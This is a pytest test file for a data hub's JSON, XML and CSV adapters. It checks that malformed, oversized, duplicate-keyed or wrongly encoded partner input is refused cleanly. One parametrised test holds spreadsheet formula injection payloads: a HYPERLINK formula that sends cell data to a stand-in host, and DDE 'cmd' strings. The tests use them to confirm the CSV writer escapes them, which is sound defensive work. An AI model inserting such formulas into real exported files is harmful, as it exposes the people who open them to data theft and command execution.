"""What the adapters do at the edges of their formats: input a partner may send by mistake or on
purpose is refused with a precise 4xx answer (never a 500, never silently changed), and what the hub
writes is safe for whoever opens it."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Iterator

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from hub.store import db
from hub.adapters import get_adapter
from hub.adapters.municipal_csv import MunicipalCsvAdapter
from hub.adapters.provider_json import MAX_DEPTH, parse_json
from hub.api.app import create_app
from hub.canonical import Message
from hub.findings import Refusal
from hub.partners import issue_token
from hub.runtime import Hub
from hub.schemas.registry import Registry
from hub.store.tables import messages
from tests.conftest import CONTRACTS, PROVIDER, agency_sample, encode, provider_sample
from tests.test_file_drop import COLUMNS, PARTNER, record

CSV: MunicipalCsvAdapter = get_adapter(CONTRACTS, "municipal-csv")  # type: ignore[assignment]


def stored(hub: Hub) -> int:
    with db.read(hub.engine) as conn:
        return conn.execute(sa.select(sa.func.count()).select_from(messages)).scalar_one()


@pytest.fixture
def client(hub: Hub) -> Iterator[TestClient]:
    with TestClient(create_app(hub, role="api"), raise_server_exceptions=False) as c:
        yield c


def post_as(hub: Hub, client: TestClient, partner: str, body: bytes, media: str, path: str = "/v1/messages") -> dict:
    """POST to `path` (/v1/messages, or /v1/validate) as `partner`; returns the problem document of a
    refusal (or the answer, its status under "status")."""
    with db.write(hub.engine) as conn:
        token = issue_token(conn, partner)
    r = client.post(path, content=body, headers={"Authorization": f"Bearer {token}", "Content-Type": media})
    assert r.status_code != 500, f"the hub answered 500 to partner input: {r.text}"
    return {"status": r.status_code, **r.json()}


def refusal(data: bytes) -> Refusal:
    with pytest.raises(Refusal) as exc:
        CSV.parse(data)
    return exc.value


def csv_file(*records: str, encoding: str = "iso-8859-15", bom: bytes = b"") -> bytes:
    return bom + ("\r\n".join([COLUMNS, *records]) + "\r\n").encode(encoding)


# -- provider JSON: malformed input is a 400, never a 500 -------------------------------------------
def nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def test_json_nested_deeper_than_the_limit_is_malformed_at_any_depth() -> None:
    for depth in (MAX_DEPTH + 1, 100_000):  # 100,000 exhausted the decoder's recursion: a 500
        with pytest.raises(Refusal) as exc:
            parse_json(b'{"header": ' + nested(depth) + b"}")
        assert exc.value.kind == "malformed" and "nested" in exc.value.detail, f"depth {depth}: {exc.value}"
    assert parse_json(b'{"a": ' + nested(MAX_DEPTH - 1) + b"}"), f"{MAX_DEPTH} levels are still taken"


@pytest.mark.parametrize(
    ("field", "value"),
    [("messageType", ["teilnahme.eintritt.2010"]), ("version", ["1.0"]), ("version", {"a": 1}), ("messageType", 7)],
    ids=["messageType-list", "version-list", "version-object", "messageType-number"],
)
def test_header_names_that_are_not_strings_are_refused_with_a_pointer(hub: Hub, client: TestClient, field: str, value: object) -> None:
    doc = json.loads(encode(hub, "provider-json", provider_sample("teilnahme.eintritt.2010", "F-AAAABBBBCCCC")))
    doc["header"][field] = value
    problem = post_as(hub, client, PROVIDER, json.dumps(doc).encode(), "application/json")
    assert problem["status"] == 400 and problem["type"].endswith("missing-header"), problem
    assert [f["pointer"] for f in problem["findings"]] == [f"/header/{field}"], problem
    assert stored(hub) == 0


def test_deep_json_over_http_is_400_malformed(hub: Hub, client: TestClient) -> None:
    problem = post_as(hub, client, PROVIDER, b'{"header":' + nested(100_000) + b"}", "application/json")
    assert problem["status"] == 400 and problem["type"].endswith("malformed"), problem


@pytest.mark.parametrize(
    ("body", "pointer"),
    [
        (b'{"header": {"version": "1.0", "version": "9.9"}}', "/header/version"),
        (b'{"body": {"days": [{"code": "a"}, {"code": "a", "code": "b"}]}}', "/body/days/1/code"),
        (b'{"a/b~c": 1, "a/b~c": 2}', "/a~1b~0c"),
    ],
    ids=["header", "inside-a-list", "escaped-name"],
)
def test_json_with_a_member_name_twice_is_refused_naming_it(body: bytes, pointer: str) -> None:
    """Two systems may read a repeated name differently (Python keeps the last value, others the
    first): the hub takes neither."""
    with pytest.raises(Refusal) as exc:
        parse_json(body)
    assert exc.value.status == 422, exc.value
    assert [f.pointer for f in exc.value.findings] == [pointer], exc.value.findings
    name = pointer.rsplit("/", 1)[-1].replace("~1", "/").replace("~0", "~")
    assert repr(name) in exc.value.findings[0].message, exc.value.findings


def test_a_message_with_a_duplicate_member_name_is_422_over_http_and_not_stored(hub: Hub, client: TestClient) -> None:
    text = encode(hub, "provider-json", provider_sample("teilnahme.eintritt.2010", "F-AAAABBBBCCCC")).decode()
    assert '"caseId": "F-AAAABBBBCCCC"' in text
    text = text.replace('"caseId": "F-AAAABBBBCCCC"', '"caseId": "F-AAAABBBBCCCC", "caseId": "F-DDDDEEEEFFFF"', 1)
    problem = post_as(hub, client, PROVIDER, text.encode(), "application/json")
    assert problem["status"] == 422 and [f["pointer"] for f in problem["findings"]] == ["/body/caseId"], problem
    assert stored(hub) == 0, "a message two systems could read differently was stored"


def test_the_same_name_in_different_objects_is_no_duplicate() -> None:
    assert parse_json(b'{"a": {"id": 1}, "b": {"id": 2}, "c": [{"id": 3}, {"id": 4}]}')["c"][1] == {"id": 4}


def test_the_registry_refuses_unhashable_names_instead_of_failing() -> None:
    registry = Registry(CONTRACTS)
    with pytest.raises(Refusal) as exc:
        registry.get(["person.stammdaten.0100"], "1.0", "agency-xml")  # type: ignore[arg-type]
    assert exc.value.kind == "unknown-message-type"
    with pytest.raises(Refusal) as exc:
        registry.get("person.stammdaten.0100", {"v": 1}, "agency-xml")  # type: ignore[arg-type]
    assert exc.value.kind == "unsupported-version"


# -- agency XML: a comment or processing instruction never cuts a value short ---------------------
def test_text_split_by_a_comment_or_processing_instruction_is_read_whole(hub: Hub) -> None:
    """The XSD validated "25.0" while the adapter read "2": the provider got 2 weekly hours."""
    xml = encode(hub, "agency-xml", agency_sample("zuweisung.anmeldung.1020"))
    assert b"<fk:wochenstunden>25.0</fk:wochenstunden>" in xml and b"<fk:ziel>" in xml
    xml = xml.replace(b"<fk:wochenstunden>25.0</fk:wochenstunden>", b"<fk:wochenstunden>2<!-- -->5.0</fk:wochenstunden>")
    xml = xml.replace(b"<fk:ziel>", b"<fk:ziel>Tages<?x?>")
    adapter = hub.adapter("agency-xml")
    document = adapter.parse(xml)
    contract = hub.registry.get("zuweisung.anmeldung.1020", "1.0", "agency-xml")
    assert not hub.registry.validate(contract, document)
    body = adapter.decode(xml, document).body_dict()
    assert float(body["weekly_hours"]) == 25.0, f"weekly hours cut at the comment: {body['weekly_hours']}"
    assert body["goal"].startswith("Tages") and len(body["goal"]) > len("Tages"), f"goal cut at the PI: {body['goal']!r}"


# -- municipal CSV: one record per message ----------------------------------------------------------
def test_a_message_with_several_records_is_refused_naming_the_second(hub: Hub, client: TestClient) -> None:
    body = csv_file(record("Anna", "Test"), record("Berta", "Test"), record("Clara", "Test"))
    problem = post_as(hub, client, PARTNER, body, "text/csv")
    assert problem["status"] == 422, f"3 records were taken as one message: {problem}"
    (finding,) = problem["findings"]
    assert finding["line"] == 3 and "one record per message" in finding["message"] and "batch file" in finding["message"], finding
    assert stored(hub) == 0, "nothing of a refused message may be stored"


def test_one_record_with_a_quoted_line_break_is_still_one_message() -> None:
    rows = CSV.parse(csv_file(record("Anna", "Test").replace(";Hauptstraße;", ';"Haupt\r\nstraße";')))
    assert len(rows) == 1 and rows[0][1]["strasse"] == "Haupt\r\nstraße"


# -- municipal CSV: the encoding is never guessed into garbled names --------------------------------
def test_utf8_without_a_byte_order_mark_is_refused_where_it_shows() -> None:
    """Read as ISO-8859-15, "Jürgen" would arrive as "JÃ¼rgen"."""
    line = record("Jürgen", "Müller")
    found = refusal(csv_file(line, encoding="utf-8"))
    assert found.kind == "bad-encoding" and found.status == 400, found
    (finding,) = found.findings
    assert (finding.line, finding.column) == (2, line.index("ü") + 1), f"the finding must point at the first UTF-8 letter: {finding}"
    assert "'ü'" in finding.message, finding


def test_utf8_over_http_is_400_bad_encoding(hub: Hub, client: TestClient) -> None:
    problem = post_as(hub, client, PARTNER, csv_file(record("Jürgen", "Müller"), encoding="utf-8"), "text/csv")
    assert problem["status"] == 400 and problem["type"].endswith("bad-encoding"), problem
    assert stored(hub) == 0, "a UTF-8 record was stored (its names garbled as ISO-8859-15)"


def test_utf8_with_a_byte_order_mark_is_read_as_utf8() -> None:
    """The format declares the mark (contracts/formats/municipal-csv.yaml): some systems write one."""
    rows = CSV.parse(csv_file(record("Jürgen", "Łukasiewicz"), encoding="utf-8", bom=b"\xef\xbb\xbf"))
    assert rows[0][1]["vorname"] == "Jürgen" and rows[0][1]["familienname"] == "Łukasiewicz"


WIDE = [
    pytest.param("utf-16", b"", id="UTF-16 with byte order mark"),
    pytest.param("utf-16-le", b"", id="UTF-16LE without mark"),
    pytest.param("utf-16-be", b"", id="UTF-16BE without mark"),
    pytest.param("utf-32", b"", id="UTF-32 with byte order mark"),
    pytest.param("utf-32-le", b"", id="UTF-32LE without mark"),
]


@pytest.mark.parametrize(("encoding", "bom"), WIDE)
def test_utf16_and_utf32_are_refused_by_name_with_the_encodings_the_format_takes(encoding: str, bom: bytes) -> None:
    """Spreadsheets export "Unicode text" as UTF-16: it used to be refused as "contains NUL bytes"."""
    found = refusal(csv_file(record("Jürgen", "Müller"), encoding=encoding, bom=bom))
    width = encoding[:6].upper()
    assert found.kind == "bad-encoding", found
    assert found.detail.startswith(f"{width} is not accepted") and "ISO-8859-15 or UTF-8 with a byte order mark" in found.detail, found.detail
    assert "NUL" not in found.detail, found.detail


def test_utf16_over_http_is_400_naming_utf16(hub: Hub, client: TestClient) -> None:
    problem = post_as(hub, client, PARTNER, csv_file(record("Jürgen", "Müller"), encoding="utf-16"), "text/csv")
    assert problem["status"] == 400 and problem["type"].endswith("bad-encoding") and "UTF-16 is not accepted" in problem["detail"], problem
    assert stored(hub) == 0


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32-be"])
def test_json_in_utf16_or_utf32_is_refused_by_name(encoding: str) -> None:
    with pytest.raises(Refusal) as exc:
        parse_json(json.dumps({"header": {"author": {"id": "Jürgen"}}}, ensure_ascii=False).encode(encoding))
    assert exc.value.kind == "bad-encoding" and exc.value.detail == f"{encoding[:6].upper()} is not accepted; JSON must be encoded as UTF-8", exc.value


def test_a_stray_nul_byte_in_iso_8859_15_is_still_refused_as_a_nul_byte() -> None:
    found = refusal(csv_file(record("Anna", "Te\x00st")))
    assert found.kind == "bad-encoding" and "NUL" in found.detail, found


def test_c1_control_characters_are_refused() -> None:
    """0x80-0x9F are no text in ISO-8859-15; Windows-1252 puts € and „ “ there."""
    found = refusal(csv_file(record("Anna", "„Test“"), encoding="cp1252"))
    assert found.kind == "bad-encoding" and found.findings[0].line == 2, found


def test_iso_8859_15_that_happens_to_be_valid_utf8_is_still_iso_8859_15() -> None:
    """"ß" before a no-break space is DF A0, valid UTF-8 for an NKo letter: not a Latin UTF-8 file."""
    rows = CSV.parse(csv_file(record("Anna", "Weiß\xa0Lang")))
    assert rows[0][1]["familienname"] == "Weiß\xa0Lang"


def test_iso_8859_15_umlauts_and_the_euro_sign_are_read() -> None:
    rows = CSV.parse(csv_file(record("Jürgen", "Müller-Lüdenscheidt €")))
    assert rows[0][1]["familienname"] == "Müller-Lüdenscheidt €"


# -- municipal CSV: no formulas in the files a clerk opens in a spreadsheet ---------------------------
def person(**person: str) -> Message:
    data = agency_sample("person.stammdaten.0100")
    data["header"]["reader"] = {"id": PARTNER}
    data["body"]["person"].update(person)
    return Message.build(data["header"], data["body"])


def cells(data: bytes) -> dict[str, str]:
    header, row = list(csv.reader(io.StringIO(data.decode("iso-8859-15"), newline=""), delimiter=";"))
    return dict(zip(header, row))


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?x="&B2,"Jürgen")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(value: str) -> None:
    written = cells(CSV.encode(person(given_name=value), "1.0"))
    assert written["vorname"] == "'" + value, f"a formula reaches the clerk's spreadsheet: {written['vorname']!r}"


def test_numbers_dates_codes_and_telephone_numbers_are_written_as_they_are() -> None:
    written = cells(CSV.encode(person(given_name="Jürgen"), "1.0"))
    assert written["telefon"] == "+49 351 123456", "a telephone number is no formula: the legacy system imports it as it is"
    assert (written["geburtsdatum"], written["postleitzahl"], written["geschlecht"]) == ("09.03.1978", "01067", "m")
    assert written["vorname"] == "Jürgen" and written["erstellungszeitpunkt"][0].isdigit()


@pytest.mark.parametrize("value", ['=HYPERLINK("x")', "'=already quoted", "'t Hooft", "-", "+cmd|' /C calc'!A0", "Müller"])
def test_what_the_writer_writes_the_reader_reads_back_unchanged(value: str) -> None:
    message = person(given_name=value)
    back = CSV.decode(CSV.encode(message, "1.0"))
    assert back.body_dict()["person"]["given_name"] == value


def test_a_partner_cell_with_the_guard_quote_is_read_without_it() -> None:
    rows = CSV.parse(csv_file(record("'=Anna", "Test")))
    assert rows[0][1]["vorname"] == "=Anna"


# -- batch files: records are found by a CSV parser, not by physical lines --------------------------
def test_a_quoted_line_break_stays_in_its_record_and_lines_are_those_of_the_file() -> None:
    data = b'h1;h2\r\n"a\r\nb";c\r\n\r\nx;y\r\n'
    records = CSV.split(data)
    assert records == [(2, b'h1;h2\r\n"a\r\nb";c\r\n'), (5, b"h1;h2\r\nx;y\r\n")], f"split on physical lines: {records}"


def test_an_unterminated_quote_becomes_one_record_that_parse_refuses() -> None:
    records = CSV.split(b'h1;h2\r\nx;"y\r\nz\r\n')
    assert [line for line, _ in records] == [2], f"an open quote runs to the end of the file: one record, {records}"
    ((_, record_bytes),) = records
    with pytest.raises(Refusal) as exc:
        CSV.parse(record_bytes)
    assert exc.value.kind == "malformed"


def test_every_record_keeps_the_header_and_its_own_bytes() -> None:
    uid = str(uuid.uuid4())
    data = csv_file(record("Jürgen", "Müller", uid=uid), record("Eva", "Klein"))
    first, second = CSV.split(data)
    assert first[0] == 2 and second[0] == 3
    assert first[1].startswith(COLUMNS.encode()) and uid.encode() in first[1] and "Jürgen".encode("iso-8859-15") in first[1]


# -- every channel: a byte its encoding cannot read is named in one clean sentence --------------------
def test_deep_xml_over_http_is_400_in_plain_words(hub: Hub, client: TestClient) -> None:
    from tests.conftest import JOBCENTER

    depth = 30_000  # as deep as the tests' 256 KiB limit allows (test_safe_xml parses 100,000 levels)
    problem = post_as(hub, client, JOBCENTER, b"<a>" * depth + b"</a>" * depth, "application/xml")
    assert problem["status"] == 400 and problem["type"].endswith("malformed"), problem
    assert "XML_PARSE" not in json.dumps(problem), f"the partner is told to set a parser option of the hub's: {problem}"
    assert "256 levels" in problem["detail"], problem


def test_json_that_is_not_utf8_is_named_at_its_byte_in_one_sentence(hub: Hub, client: TestClient) -> None:
    body = json.dumps(provider_sample("teilnahme.eintritt.2010", "T-1"), ensure_ascii=False).encode("utf-8")
    at = body.index(b'"header"') + 1
    body = body[:at] + b"\xfc" + body[at:]  # a Latin-1 ü in a UTF-8 body
    with pytest.raises(Refusal) as exc:
        parse_json(body)
    (finding,) = exc.value.findings
    assert finding.message == f"not valid UTF-8 at byte {at}: invalid start byte", finding
    assert exc.value.one_line() == f"JSON must be encoded as UTF-8 (line 1: not valid UTF-8 at byte {at}: invalid start byte)", exc.value.one_line()
    problem = post_as(hub, client, PROVIDER, body, "application/json")
    assert problem["status"] == 400 and problem["findings"][0]["message"] == finding.message, problem


def test_csv_with_a_byte_order_mark_but_not_utf8_is_named_at_its_byte_and_line() -> None:
    data = csv_file(record("Jürgen", "Müller"), bom=b"\xef\xbb\xbf")  # ISO-8859-15 after a UTF-8 mark
    found = refusal(data)
    (finding,) = found.findings
    at = data.index("ü".encode("iso-8859-15"))
    assert found.kind == "bad-encoding" and finding.message == f"not valid UTF-8 at byte {at}: invalid start byte", finding
    assert finding.line == 2, f"the finding must name the record's line: {finding}"
    assert "(:" not in found.one_line() and found.one_line().count("(") == found.one_line().count(")"), found.one_line()


def test_a_finding_without_a_location_reads_as_one_clean_sentence() -> None:
    from hub.findings import Finding

    line = Refusal("malformed", "The message is broken", [Finding("something is wrong")]).one_line()
    assert line == "The message is broken (something is wrong)", line
